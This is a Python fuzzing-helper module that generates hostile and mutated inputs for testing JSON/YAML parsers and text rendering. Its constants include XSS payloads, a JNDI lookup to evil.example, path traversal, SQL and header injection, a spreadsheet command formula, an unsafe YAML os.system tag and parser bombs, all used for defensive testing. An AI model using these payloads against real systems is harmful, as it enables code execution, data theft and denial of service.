"""Hostile values, texts and bytes, and real ones that are changed a little."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from copy import deepcopy
from typing import Any

import yaml
from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

MARKUP = (
    "[link=https://evil.example]here[/link]",
    "[/x]",
    "[bold red]",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b2J",
    "a\rb",
    "\x08\x08\x08",
    "\u202egnp.exe",
    "\u2066",
    "\x7f",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "<https://evil.example|click>",
    "<!channel>",
    "<@U123>",
    "@here",
    "![x](https://evil.example/x.png)",
    "[click](https://evil.example)",
    "`code`",
    "```",
    "**bold**",
    "# head",
    "&lt;b&gt;",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "\r\nBcc: all@evil.example",
    "= cmd|' /C calc'!A0",
)
"""What a terminal, Slack, a mail, Markdown, HTML, a template or a spreadsheet would take for more than text."""
TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\ufeff",
    "\u2028",
    "İ",
    "ß",
    "Ǆ",
    "\U0010ffff",
    "x" * 5_000,
    "x" * 30_000,
    "é" * 20_000,
    "(" * 1000,
    "(a+)+$",
    "a" * 40 + "!",
    "(?P<x>a)(?P=x)",
    "[" * 500,
    "{" * 500,
    "../" * 30 + "etc/passwd",
    "..",
    "../x",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\x",
    "a\\..\\b",
    "%2e%2e%2f",
    "%00",
    "%",
    "%zz",
    "a/b",
    "a//b",
    "~",
    "-x",
    "--help",
    "@/tmp/x",
    "'",
    '"',
    "`",
    "''; DROP TABLE x; --",
    "\\",
    "\\u",
    "\\ud800",
    "$",
    "${",
    "${HOME}",
    "${SLUICE_NO_SUCH}",
    "${SLUICE_X:-${SLUICE_Y}}",
    "${file:/etc/passwd:x}",
    "${env:HOME}",
    ",",
    ",,",
    "=",
    ":",
    "::",
    "a:b:c",
    "://",
    "http://",
    "http://[",
    "http://[::1",
    "http://a:b@c",
    "http://x:99999999",
    "http://x:p",
    "jdbc:",
    "jdbc:postgresql:",
    "jdbc:postgresql://",
    "jdbc:x:y:z",
    "host:port",
    "[::1]",
    "[::1]:x",
    "host:0",
    "host:99999",
    "a,b",
    "null",
    "None",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-0",
    "0x10",
    "1_000",
    "٣",
    "²",
    "9" * 5_000,
    "-" * 5_000,
    "1" + "0" * 400,
    "1e400000000",
    "0." + "0" * 5_000 + "1",
    "true",
    "yes",
    "on",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59:59.999999999Z",
    "10000-01-01",
    "-0001-01-01",
    "2026-01-01T00:00:00+99:99",
    "24:00",
    "1 day",
    "1 fortnight",
    "99999999999 days",
    "-1 s",
    "1e9 hours",
    "* * * * *",
    "@hourly",
    "*/0 * * * *",
    "60 24 32 13 8",
    "* " * 200,
    "!!python/object:os",
    "!!binary x",
    "&a [*a]",
    "*a",
    "<<: x",
    "? x",
    "---\n---",
    "%YAML 9.9",
    "\t",
    "- " * 200,
    "{a: " * 200,
    "[a",
    "STRUCT<" * 300,
    "id BIGINT",
    "ARRAY<ARRAY<ARRAY<INT>>>",
    "DECIMAL(99,99)",
    "MAP<INT",
    "20260101000000000",
    "20261332256099999",
    "2026",
)
LEAVES = (
    None,
    True,
    False,
    0,
    -1,
    1,
    2**31,
    2**63,
    -(2**63) - 1,
    10**30,
    10**400,
    0.5,
    -0.0,
    1e308,
    float("inf"),
    float("-inf"),
    float("nan"),
    [],
    {},
    [[]],
    [None],
    {"": None},
    {"a": 5},
    [5],
    [{}],
    [[[[[]]]]],
    b"",
    b"\xff",
    "xz",
    "*",
)

texts: SearchStrategy[str] = st.one_of(
    st.sampled_from(TEXTS + MARKUP),
    st.text(max_size=40),
    st.text(st.characters(exclude_categories=()), max_size=20),  # surrogates among them
    st.lists(st.sampled_from(TEXTS[:60] + MARKUP), min_size=2, max_size=4).map("".join),
)
"""Hostile and random texts."""


def deep(levels: int, kind: str = "[") -> Any:
    """Nested lists or objects."""
    value: Any = "x"
    for _ in range(levels):
        value = [value] if kind == "[" else {"a": value}
    return value


values: SearchStrategy[Any] = st.one_of(
    st.sampled_from([one for one in LEAVES if not isinstance(one, bytes)]).map(deepcopy),
    texts,
    st.integers(),
    st.floats(),
    st.builds(deep, st.sampled_from([3, 30, 100]), st.sampled_from("[{")),
    st.integers(10, 3000).map(lambda n: list(range(n))),
    st.recursive(
        st.none() | st.booleans() | st.integers() | texts,
        lambda s: st.lists(s, max_size=3) | st.dictionaries(texts, s, max_size=3),
        max_leaves=6,
    ),
)
"""What JSON or YAML may hold."""


def places(value: Any) -> list[tuple[Any, Any]]:
    """Each container within a value with each of its keys."""
    if isinstance(value, dict):
        return [(value, key) for key in value] + [one for inner in value.values() for one in places(inner)]
    if isinstance(value, list):
        return [(value, i) for i in range(len(value))] + [one for inner in value for one in places(inner)]
    return []


@st.composite
def changed(draw: st.DrawFn, real: Sequence[Any], names: Sequence[str] = (), most: int = 4) -> Any:
    """A real value some of whose parts are others, are gone, are there twice, or have changed places.

    Args:
        draw: hypothesis's.
        real: real values.
        names: keys that may be added, beside hostile ones.
        most: how many changes there are at most.
    """
    value = [deepcopy(draw(st.sampled_from(real)))]
    for _ in range(draw(st.integers(0, most))):
        found = places(value)
        container, key = draw(st.sampled_from(found))
        how = draw(st.sampled_from(["replace", "replace", "text", "add", "remove", "swap", "wrap"]))
        if how == "text" and isinstance(container[key], str):
            container[key] = draw(edited(container[key]))
        elif how == "add" and isinstance(container, dict):
            added = draw(st.sampled_from([*names, *container])) if names and draw(st.booleans()) else draw(texts)
            container[added] = draw(values)
        elif how == "remove" and container is not value:
            del container[key]
        elif how == "swap":
            other, there = draw(st.sampled_from(found))
            if other is not value and container is not value:
                container[key], other[there] = deepcopy(other[there]), deepcopy(container[key])
        elif how == "wrap":
            container[key] = draw(
                st.sampled_from([[container[key]], {"a": container[key]}, str(container[key])[:1000]])
            )
        else:
            container[key] = draw(values)
    return value[0] if value else None


@st.composite
def edited(draw: st.DrawFn, text: str) -> str:
    """A text with something cut out, put in, or written again."""
    for _ in range(draw(st.integers(1, 3))):
        start, end = sorted((draw(st.integers(0, len(text))), draw(st.integers(0, len(text)))))
        how = draw(st.sampled_from(["put", "cut", "twice", "replace"]))
        middle = {"put": draw(texts), "cut": "", "twice": text[start:end] * 2, "replace": draw(texts)}[how]
        text = text[:start] + middle + text[start if how == "put" else end :]
    return text


@st.composite
def edited_bytes(draw: st.DrawFn, real: Sequence[bytes]) -> bytes:
    """Bytes with some of them flipped, cut off, put in, or repeated."""
    data = bytearray(draw(st.sampled_from(real)))
    for _ in range(draw(st.integers(0, 4))):
        at = draw(st.integers(0, len(data)))
        how = draw(st.sampled_from(["put", "cut", "flip", "twice"]))
        if how == "flip" and at < len(data):
            data[at] ^= draw(st.integers(1, 255))
        elif how == "cut":
            del data[at : at + draw(st.integers(1, 50))]
        elif how == "twice":
            data[at:at] = data[at : at + draw(st.integers(1, 200))] * draw(st.integers(1, 50))
        else:
            data[at:at] = draw(st.binary(max_size=20) | texts.map(lambda t: t.encode(errors="surrogatepass")[:1000]))
    return bytes(data)


def as_json(value: Any) -> bytes:
    """JSON of a value as another program would write it, numbers that JSON doesn't have among them."""
    return json.dumps(value, default=str).encode(errors="surrogatepass")


def as_yaml(value: Any) -> bytes:
    """YAML of a value."""
    try:
        return yaml.safe_dump(value, allow_unicode=True, sort_keys=False).encode(errors="surrogatepass")
    except (yaml.YAMLError, RecursionError):  # surrogates, for which YAML has no form
        return as_json(value)


def documents(real: Sequence[Any], written: Callable[[Any], bytes], names: Sequence[str] = ()) -> SearchStrategy[bytes]:
    """Documents: changed ones, the same with edited bytes, and what is no document at all."""
    whole = [written(one) for one in real]
    return st.one_of(
        changed(real, names).map(written),
        changed(real, names).map(written),
        edited_bytes(whole),
        st.sampled_from(BOMBS),
        st.binary(max_size=100),
        texts.map(lambda t: t.encode(errors="surrogatepass")),
        values.map(written),
    )


BOMBS = (
    b"",
    b"\xff\xfe",
    b"\xef\xbb\xbf{}",
    b"[" * 1000 + b"]" * 1000,
    b"[" * 100_000,
    b'{"a":' * 1000 + b"1" + b"}" * 1000,
    b"9" * 5000,
    b'{"a":' + b"9" * 5000 + b"}",
    b'{"a":1e999}',
    b'{"a":NaN}',
    b'{"a":"\\ud800"}',
    b'{"a":1,"a":[]}',
    b"null",
    b"[]",
    b"{}",
    b'"x"',
    b"5",
    b"true",
    b"a: &a [x,x,x,x]\n"
    + b"".join(
        b"a%d: &a%d [%s]\n" % (i, i, b",".join([b"*a%d" % (i - 1) if i > 1 else b"*a"] * 8)) for i in range(1, 9)
    ),
    b"a: &a [*a]",
    b"a: !!python/object/apply:os.system [x]",
    b"a: 2026-02-30",
    b"a: 0b_",
    b"a: !!float x",
    b"? [a]\n: b",
    b"<<: [a]",
    b"a: 1:99:99",
    b"- " * 20_000,
    b"{a: " * 70,
    b"a: '" + b"x" * 200_000,
    b"%YAML 1.1\n---\na: b\n---\nc: d",
    b"\x00",
    b"a: \x00",
    b"a: \x85b",
    b"[" + b"[]," * 200_000 + b"[]]",
    b'{"a":[' + b"1," * 200_000 + b"1]}",
    random.Random(7).randbytes(4000),
)
"""What costs a parser more than its length, or makes it raise what it doesn't document."""
